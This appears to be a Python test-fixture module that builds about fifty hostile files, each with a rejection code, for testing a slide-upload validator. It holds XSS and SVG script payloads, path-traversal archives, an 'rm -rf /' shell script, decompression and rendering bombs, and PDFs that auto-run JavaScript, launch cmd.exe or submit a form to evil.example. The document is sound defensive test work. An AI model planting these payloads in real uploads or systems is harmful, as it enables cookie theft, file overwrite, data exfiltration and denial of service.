"""Fifty files that are not slides: each with its name and the code of the reason for which it is refused."""

import io
import struct
import tarfile
import zipfile
import zlib

from PIL import Image

from groups.showcase.files import MOST_BYTES
from groups.showcase.tests.slides import PAGE, chunk, header, jpeg, pdf, picture, png, png_of, saved, stream, with_chunk

SCRIPT = b"<script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'

Hostile = tuple[str, bytes, str]


def archive(*names: str) -> bytes:
    """A ZIP with these entries, as office files are."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as files:
        for name in names:
            files.writestr(name, "<xml/>")
    return written.getvalue()


def tar() -> bytes:
    """A TAR archive that climbs out of its folder."""
    written = io.BytesIO()
    with tarfile.open(fileobj=written, mode="w") as files:
        files.addfile(tarfile.TarInfo("../../etc/cron.d/slide"))
    return written.getvalue()


def bomb(width: int, height: int, *, depth: int = 8, color: int = 2) -> bytes:
    """A small PNG that says it is large, of one color."""
    rows = zlib.compress(bytes(1_000_000), 9)
    return png_of([header(width, height, depth=depth, color=color), chunk(b"IDAT", rows), chunk(b"IEND", b"")])


def jpeg_of_size(width: int, height: int) -> bytes:
    """A JPEG whose frame header lies about its size."""
    content = bytearray(jpeg())
    at = content.index(b"\xff\xc0") + 5
    content[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(content)


def other_than_slides() -> list[Hostile]:
    """What is something else, whatever its name says."""
    small = picture((64, 64))
    return [
        ("empty.pdf", b"", "empty"),
        ("zeros.png", bytes(5_000), "empty"),
        ("spaces.pdf", b" \r\n" * 100, "empty"),
        ("script.svg", SVG, "svg"),
        ("declared.svg", b'<?xml version="1.0"?>\n' + SVG, "svg"),
        ("entities.svg", b'<!DOCTYPE svg [<!ENTITY a "&b;&b;">]>' + SVG, "svg"),
        ("svg-as.png", b"\xef\xbb\xbf  " + SVG, "svg"),
        ("page.html", b"<!DOCTYPE html><html>" + SCRIPT, "html"),
        ("page-as.jpg", b"\n<html><body>" + SCRIPT, "html"),
        ("script.png", SCRIPT, "html"),
        ("slides.pptx", archive("[Content_Types].xml", "ppt/presentation.xml"), "office"),
        ("slides.odp", archive("mimetype", "content.xml"), "office"),
        ("macro.pptm", archive("ppt/vbaProject.bin"), "office"),
        ("climbing.zip", archive("../../etc/passwd"), "office"),
        ("old.ppt", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000), "office"),
        ("text.rtf", rb"{\rtf1\ansi slide}", "office"),
        ("archive.tar", tar(), "type"),
        ("program.png", b"\x7fELF" + bytes(range(256)) * 10, "type"),
        ("program.pdf", b"MZ\x90" + bytes(range(256)) * 10, "type"),
        ("shell.jpg", b"#!/bin/sh\nrm -rf /\n", "type"),
        ("words.pdf", "Our slide: see you there! ✨".encode(), "type"),
        ("still.gif", saved(small, "GIF"), "picture"),
        ("picture.webp", saved(small, "WEBP"), "picture"),
        ("picture.bmp", saved(small, "BMP"), "picture"),
        ("picture.tiff", saved(small, "TIFF"), "picture"),
        ("postscript.pdf", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) run", "type"),
    ]


def pictures() -> list[Hostile]:
    """What begins as a PNG or JPEG."""
    moving = [picture((64, 64)), Image.new("RGB", (64, 64), "red")]
    return [
        ("wide-bomb.png", bomb(50_000, 50_000), "pixels"),
        ("gray-bomb.png", bomb(60_000, 60_000, depth=1, color=0), "pixels"),
        ("just-too-large.png", bomb(5_000, 4_000), "pixels"),
        ("bomb.jpg", jpeg_of_size(65_000, 65_000), "pixels"),
        (
            "text-bomb.png",
            with_chunk(png(), chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(300_000_000), 9))),
            "damaged",
        ),
        ("ribbon.png", bomb(60_000, 20), "ribbon"),
        ("ends-early.png", png()[:-200], "damaged"),
        ("only-a-header.png", png()[:40], "damaged"),
        ("ends-early.jpg", jpeg()[:-400], "damaged"),
        ("wrong-sum.png", png().replace(b"IDAT", b"IDAT\0", 1), "damaged"),
        ("no-pixels.png", png_of([header(800, 600), chunk(b"IEND", b"")]), "damaged"),
        ("page-behind.png", png() + SCRIPT, "extra"),
        ("archive-behind.png", png() + archive("classes.jar"), "extra"),
        ("archive-behind.jpg", jpeg() + archive("classes.jar"), "extra"),
        ("moving.png", saved(moving[0], "PNG", save_all=True, append_images=moving[1:]), "animated"),
        ("too-heavy.png", png() + bytes(MOST_BYTES), "bytes"),
    ]


def nested_forms(depth: int = 24) -> bytes:
    """A PDF whose forms draw the next one ten times each: 10 to the power of 24 rectangles."""
    forms = [
        stream(
            b"/F Do " * 10 if number < depth else b"0 0 900 500 re f",
            f"/Type /XObject /Subtype /Form /BBox [0 0 960 540] /Resources << /XObject << /F {number + 6} 0 R >> >>"
            if number < depth
            else "/Type /XObject /Subtype /Form /BBox [0 0 960 540]",
        )
        for number in range(depth + 1)
    ]
    body = PAGE.replace("/Resources << >>", "/Resources << /XObject << /F 5 0 R >> >>")
    return pdf(body=body, drawing=stream(b"/F Do " * 10), more=forms)


def endless_drawing() -> bytes:
    """A PDF with a page that draws millions of curves, compressed to a few kB."""
    curves = zlib.compress(b"0 0 m 960 540 0 540 960 0 c S\n" * 3_000_000, 9)
    return pdf(drawing=stream(curves, "/Filter /FlateDecode"))


def packed_bomb() -> bytes:
    """A PDF whose page is half a gigabyte of spaces, packed twice."""
    packed = zlib.compress(zlib.compress(b" " * 500_000_000, 9), 9)
    return pdf(drawing=stream(packed, "/Filter [/FlateDecode /FlateDecode]"))


def slow_shading() -> bytes:
    """A PDF that computes the color of each pixel with a program of thousands of steps."""
    program = stream(b"{ " + b"sin cos " * 4_000 + b"}", "/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]")
    shading = b"<< /ShadingType 1 /ColorSpace /DeviceRGB /Matrix [960 0 0 540 0 0] /Function 6 0 R >>"
    body = PAGE.replace("/Resources << >>", "/Resources << /Shading << /S 5 0 R >> >>")
    return pdf(body=body, drawing=stream(b"/S sh"), more=[shading, program.replace(b"}", b"dup }")])


def locked() -> bytes:
    """A PDF that opens with a password only (RC4, 40 bits)."""
    words = f"/Filter /Standard /V 1 /R 2 /O <{'41' * 32}> /U <{'42' * 32}> /P -4"
    identity = f"<{'00' * 16}>"
    return pdf(more=[f"<< {words} >>".encode()], trailer=f"/Encrypt 5 0 R /ID [{identity} {identity}]")


def documents() -> list[Hostile]:
    """What begins as a PDF."""
    script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    attached = stream(b"MZ", "/Type /EmbeddedFile")
    names = "/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>] >> >>"
    return [
        ("opens-script.pdf", pdf(catalog=f"/OpenAction {script}"), "active"),
        ("named-script.pdf", pdf(catalog=f"/Names << /JavaScript << /Names [(a) {script}] >> >>"), "active"),
        ("page-script.pdf", pdf(page=f"/AA << /O {script} >>"), "active"),
        ("hidden-name.pdf", pdf(page="/AA << /O << /S /J#61vaScript /J#53 (x) >> >>"), "active"),
        ("starts-program.pdf", pdf(catalog="/OpenAction << /S /Launch /F (cmd.exe) >>"), "active"),
        ("sends-form.pdf", pdf(page="/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>"), "active"),
        ("attachment.pdf", pdf(catalog=names, more=[attached]), "attached"),
        ("locked.pdf", locked(), "locked"),
        ("many-pages.pdf", pdf(pages=6), "pages"),
        ("thousands-of-pages.pdf", pdf(pages=100_000), "pages"),
        ("nothing-in-it.pdf", b"%PDF-1.7\n%%EOF\n", "damaged"),
        ("ends-early.pdf", pdf()[:-60], "damaged"),
        ("noise.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 200 + b"%%EOF", "damaged"),
        ("archive-behind.pdf", pdf() + archive("classes.jar"), "extra"),
        ("page-behind.pdf", pdf() + SCRIPT, "extra"),
        ("huge-page.pdf", pdf(body=PAGE.replace("960 540", "1000000 1000000")), "pixels"),
        ("endless.pdf", endless_drawing(), "memory"),
        ("nested.pdf", nested_forms(), "memory"),
        ("packed.pdf", packed_bomb(), "memory"),
        ("shading.pdf", slow_shading(), "slow"),
    ]


def hostile_files() -> list[Hostile]:
    """All of them."""
    return [*other_than_slides(), *pictures(), *documents()]
